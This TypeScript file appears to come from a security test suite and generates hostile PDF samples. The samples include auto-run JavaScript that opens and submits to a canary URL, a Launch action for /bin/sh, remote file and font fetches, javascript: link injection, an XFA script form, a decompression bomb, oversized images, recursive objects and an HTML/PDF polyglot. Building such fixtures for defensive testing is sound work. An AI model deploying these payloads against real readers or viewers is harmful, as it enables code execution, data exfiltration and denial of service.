import { deflateSync } from 'node:zlib';
import { pdfDocument } from '../sample-files/pdf-document.ts';
import { type Attack, type AttackFacts, onlyInFull } from './attack.ts';
import { everything, scripted } from './payload.ts';

type PdfParts = Parameters<typeof pdfDocument>[1];

const pdf = (what: string, parts: (facts: AttackFacts) => PdfParts): Attack => ({
  what: `PDF: ${what}`,
  file: 'attack.pdf',
  content: (facts) => pdfDocument(['Attack'], parts(facts)),
});

const literal = (text: string) => `(${text.replace(/[()\\]/g, '\\$&')})`;
const script = (facts: AttackFacts) =>
  literal(
    `app.alert(1); app.launchURL('${facts.canary.url}/launch'); this.submitForm('${facts.canary.url}/form'); ${everything(facts)}`,
  );
const MiB = 1024 * 1024;

/** Documents that act. */
export const PDF_ATTACKS: readonly Attack[] = [
  pdf('a script when it opens', (facts) => ({
    catalogue: '/OpenAction 4 0 R',
    objects: [`<< /S /JavaScript /JS ${script(facts)} >>`],
  })),
  onlyInFull(
    pdf('scripts by name', (facts) => ({
      catalogue: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >> /AA << /WC 4 0 R /WS 4 0 R >>',
      firstPage: '/AA << /O 4 0 R >>',
      objects: [`<< /S /JavaScript /JS ${script(facts)} >>`],
    })),
  ),
  pdf('an address when it opens', ({ canary }) => ({
    catalogue: '/OpenAction 4 0 R',
    objects: [`<< /S /URI /URI (${canary.url}/uri) >>`],
  })),
  onlyInFull(
    pdf('a program when it opens', () => ({
      catalogue: '/OpenAction 4 0 R',
      objects: ['<< /S /Launch /F (/bin/sh) /Win << /F (calc.exe) >> >>'],
    })),
  ),
  onlyInFull(
    pdf('a file of another host when it opens', ({ canary }) => ({
      catalogue: '/OpenAction 4 0 R',
      objects: [`<< /S /GoToR /F << /FS /URL /F (${canary.url}/remote.pdf) >> /D [0 /Fit] >>`],
    })),
  ),
  pdf('links that are scripts', () => ({
    firstPage: '/Annots [4 0 R 5 0 R]',
    objects: [
      '<< /Type /Annot /Subtype /Link /Rect [0 0 420 595] /A << /S /URI /URI (javascript:localStorage.stolen=1) >> >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 420 595] /A << /S /URI /URI (data:text/html,<script>localStorage.stolen=1</script>) >> >>',
    ],
  })),
  pdf('a form that sends itself', (facts) => ({
    catalogue: '/AcroForm << /Fields [4 0 R] /NeedAppearances true >>',
    firstPage: '/Annots [4 0 R]',
    objects: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V ${literal(scripted(facts))} /Rect [0 0 300 50] /AA << /F << /S /JavaScript /JS ${script(facts)} >> /Fo << /S /SubmitForm /F (${facts.canary.url}/form) >> >> >>`,
    ],
  })),
  pdf('a form of XML', (facts) => {
    const xml = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml">${scripted(facts)}<img src="${facts.canary.url}/xfa"/></body></exData></value></draw></subform></template></xdp:xdp>`;
    return {
      catalogue: '/AcroForm << /XFA 4 0 R /Fields [] >>',
      objects: [`<< /Length ${xml.length} >>\nstream\n${xml}\nendstream`],
    };
  }),
  onlyInFull(
    pdf('a font of another host, and one that is a script', ({ canary }) => ({
      objects: [
        `<< /Type /Font /Subtype /Type1 /BaseFont /x /FontDescriptor << /FontFile3 << /FS /URL /F (${canary.url}/font) >> /FontMatrix [1 2 3 4 5 (1\\); localStorage.stolen=1)] >> >>`,
      ],
    })),
  ),
  onlyInFull(
    pdf('a stream that unpacks to a gigabyte', () => {
      const packed = deflateSync(Buffer.alloc(256 * MiB)).toString('latin1');
      return {
        firstPage: '/Contents 4 0 R',
        objects: [`<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed}\nendstream`],
      };
    }),
  ),
  pdf('a picture of a terapixel', () => ({
    firstPage: '/Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R',
    objects: [
      '<< /Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 3 >>\nstream\nabc\nendstream',
      '<< /Length 36 >>\nstream\n400 0 0 400 0 0 cm /I Do           \nendstream',
    ],
  })),
  onlyInFull(
    pdf('a drawing that takes long', () => {
      const curves = '0 0 m 99 999 999 99 420 595 c 1 1 l b* '.repeat(60_000);
      return {
        firstPage: '/Contents 4 0 R',
        objects: [`<< /Length ${curves.length} >>\nstream\n${curves}\nendstream`],
      };
    }),
  ),
  pdf('a form in itself', () => ({
    firstPage: '/Resources << /XObject << /F 4 0 R >> >> /Contents 5 0 R',
    objects: [
      '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 4 0 R >> >> /Length 11 >>\nstream\n/F Do /F Do\nendstream',
      '<< /Length 5 >>\nstream\n/F Do\nendstream',
    ],
  })),
  {
    what: 'PDF: pages in a circle',
    file: 'attack.pdf',
    content: () =>
      new TextEncoder().encode(
        '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000000 >> endobj\ntrailer << /Root 1 0 R >>\n',
      ),
  },
  {
    what: 'PDF: a million pages',
    isLong: true,
    file: 'attack.pdf',
    content: () =>
      new TextEncoder().encode(
        `%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Count 1000000 /Kids [${'3 0 R '.repeat(200_000)}] >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 99999999 99999999] >> endobj\ntrailer << /Root 1 0 R >>\n`,
      ),
  },
  {
    what: 'a PDF that is a page as well',
    file: 'attack.pdf',
    content: (facts) => new TextEncoder().encode(`<html>${scripted(facts)}</html>\n%PDF-1.7\n`),
  },
];
